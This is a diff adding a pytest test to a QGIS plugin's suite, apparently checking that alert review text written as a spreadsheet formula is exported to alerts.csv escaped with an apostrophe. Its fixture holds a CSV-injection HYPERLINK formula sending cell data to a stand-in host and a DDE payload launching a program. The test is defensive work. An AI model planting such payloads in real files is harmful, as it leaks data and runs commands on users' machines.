@@ -184,3 +184,39 @@ def test_geographic_rasters_on_the_earth_are_classified(make_raster, tmp_path, x
     raster = make_raster(360, 300, crs="EPSG:4326", transform=from_origin(x, y, size, size))
     proc = _classify(raster, tmp_path / "out.gpkg")
     assert proc.returncode == 0, proc.stderr
+
+
+# -- the hand-off's spreadsheet ------------------------------------------------------------------------------------
+
+FORMULAS = {"reason": '=HYPERLINK("http://example.invalid/?leak="&A1,"details")', "reviewer": "@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+def test_a_review_typed_as_a_formula_reaches_the_spreadsheet_as_text(tmp_path):
+    """alerts.csv is opened in a spreadsheet by the field team; a reject reason or reviewer name that starts with =,
+    +, -, @ (typed in the Alerts panel, or in a change layer someone else reviewed) was written as it was, so the
+    spreadsheet ran it as a formula (a link that sends the sheet's cells away, or DDE). In alerts.csv such text
+    starts with an apostrophe (shown as text, never run); the GeoJSON, KML and HTML keep it as typed."""
+    import csv
+
+    from planet_qgis_plugin.core.monitor.alerts import read_alerts, record_review
+    from planet_qgis_plugin.core.monitor.change import compare
+    from planet_qgis_plugin.core.monitor.handoff import export_alerts
+
+    from ..conftest import RAPIDEYE, edit_tiles
+
+    before = tmp_path / "before.gpkg"
+    proc = _classify(RAPIDEYE, before)
+    assert proc.returncode == 0, proc.stderr
+    after = tmp_path / "after.gpkg"
+    shutil.copyfile(before, after)
+    edit_tiles(after, {(0, 1): {"flag_mining": 1, "flagged": 1, "score_mining": 1.0}})
+    compare(before, after, tmp_path / "change.gpkg")
+    fid = read_alerts(tmp_path / "change.gpkg").rows[0].fid
+    record_review(tmp_path / "change.gpkg", fid, "rejected", reason=FORMULAS["reason"], reviewer=FORMULAS["reviewer"])
+    export_alerts(tmp_path / "change.gpkg", tmp_path / "handoff")
+    with open(tmp_path / "handoff" / "alerts.csv", newline="", encoding="utf-8") as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert row["reject_reason"] == "'" + FORMULAS["reason"] and row["reviewed_by"] == "'" + FORMULAS["reviewer"]
+    assert float(row["lon"]) == pytest.approx(float(row["lon"])) and not row["lon"].startswith("'")  # numbers as numbers
+    geojson = json.loads((tmp_path / "handoff" / "alerts.geojson").read_text(encoding="utf-8"))
+    assert geojson["features"][0]["properties"]["reject_reason"] == FORMULAS["reason"]
